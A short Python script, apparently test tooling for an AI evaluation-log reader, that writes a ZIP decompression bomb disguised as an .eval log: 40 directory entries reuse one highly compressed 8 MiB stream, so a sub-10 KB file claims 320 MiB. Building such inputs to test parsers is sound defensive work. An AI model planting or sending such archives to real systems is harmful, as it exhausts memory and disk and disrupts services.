#!/usr/bin/env python3
"""Writes bomb.eval: a valid header.json, then 40 sample entries whose central-directory records all
point at one deflate stream of 8 MiB of spaces (8 KB compressed). The archive is under 10 KB and
claims 320 MiB of contents: the shape of a ZIP decompression bomb."""
import json, struct, zlib
from pathlib import Path

header = json.dumps({"version": 2, "status": "success",
                     "eval": {"eval_id": "bomb1", "task": "bomb", "model": "mockllm/model"}}).encode()
plain = b" " * (8 << 20)
compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
packed = compressor.compress(plain) + compressor.flush()
crc = zlib.crc32(plain)

out, directory = bytearray(), bytearray()
def local(name, method, crc, data, size):
    raw = name.encode()
    offset = len(out)
    out.extend(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, len(data), size, len(raw), 0) + raw + data)
    return offset

def central(name, method, crc, csize, size, offset):
    raw = name.encode()
    directory.extend(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, crc, csize, size,
                                 len(raw), 0, 0, 0, 0, 0, offset) + raw)

header_offset = local("header.json", 0, zlib.crc32(header), header, len(header))
bomb_offset = local("samples/1_epoch_1.json", 8, crc, packed, len(plain))
central("header.json", 0, zlib.crc32(header), len(header), len(header), header_offset)
for i in range(1, 41):
    central(f"samples/{i}_epoch_1.json", 8, crc, len(packed), len(plain), bomb_offset)
end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 41, 41, len(directory), len(out), 0)
Path(__file__).with_name("bomb.eval").write_bytes(bytes(out + directory + end))
